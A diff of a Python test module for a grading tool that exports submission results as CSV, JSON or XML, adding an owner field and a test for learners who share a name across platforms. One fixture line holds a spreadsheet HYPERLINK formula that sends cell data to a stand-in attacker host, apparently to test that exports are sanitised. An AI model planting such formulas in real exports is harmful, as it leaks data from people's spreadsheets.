@@ -5,6 +5,7 @@ import csv
 import io
 import json
 from collections.abc import AsyncIterator, Sequence
+from dataclasses import replace
 from xml.etree import ElementTree
 
 import msgspec
@@ -22,10 +23,13 @@ from assay.storage.submissions.results import Known
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"go")'
 
 
-def known(name: str, grade: float | None, *, learner: str = "ada", **more: object) -> Known:
+def known(
+    name: str, grade: float | None, *, learner: str = "ada", owner: str = "", **more: object
+) -> Known:
     verdict = Verdict.ERROR if grade is None else Verdict.PASSED if grade == 100 else Verdict.FAILED
     result = Result(verdict=verdict, grade=grade, **more)  # type: ignore[arg-type]
-    return Known(submission=submission(name, learner), result=msgspec.json.encode(result))
+    of = replace(submission(name, learner), owner=owner, grade=grade, verdict=verdict)
+    return Known(submission=of, result=msgspec.json.encode(result))
 
 
 def submission(name: str, learner: str, state: State = State.DONE) -> Submission:
@@ -37,15 +41,21 @@ def submission(name: str, learner: str, state: State = State.DONE) -> Submission
     )  # fmt: skip
 
 
-async def one_by_one(each: Sequence[Known]) -> AsyncIterator[Known]:
+async def submissions_of(each: Sequence[Known]) -> AsyncIterator[Submission]:
     for one in each:
-        yield one
+        yield one.submission
 
 
 def text_of(form: Format, *each: Known, policy: Policy = Policy.ALL) -> bytes:
+    known = {one.submission.id: one for one in each}
+
+    async def meant() -> AsyncIterator[Known]:
+        async for one in chosen(submissions_of(each), policy):
+            yield known[one.id]
+
     async def whole() -> bytes:
-        rows = chosen(one_by_one(each), policy)
-        return b"".join([piece async for piece in written(rows, form, name="algebra <&\"'\x0b>")])
+        pieces = written(meant(), form, name="algebra <&\"'\x0b>")
+        return b"".join([piece async for piece in pieces])
 
     return asyncio.run(whole())
 
@@ -117,3 +127,16 @@ def test_the_best_is_the_first_of_the_highest_and_the_last_has_a_grade(
     )  # fmt: skip
     read = json.loads(text)["results"]
     assert [each["submission"] for each in read] == ids.split()
+
+
+@pytest.mark.parametrize(("policy", "ids"), [(Policy.BEST, "1 2 5"), (Policy.LAST, "2 3 5")])
+def test_two_platforms_may_have_one_name_for_two_learners(policy: Policy, ids: str) -> None:
+    text = text_of(
+        Format.JSON,
+        known("1", 90.0, owner="a"), known("2", 40.0, owner="b"), known("3", 30.0, owner="a"),
+        known("5", 10.0, learner="bob", owner="b"),
+        policy=policy,
+    )  # fmt: skip
+    read = json.loads(text)["results"]
+    assert [each["submission"] for each in read] == ids.split()
+    assert {each["owner"] for each in read if each["learner"] == "ada"} == {"a", "b"}
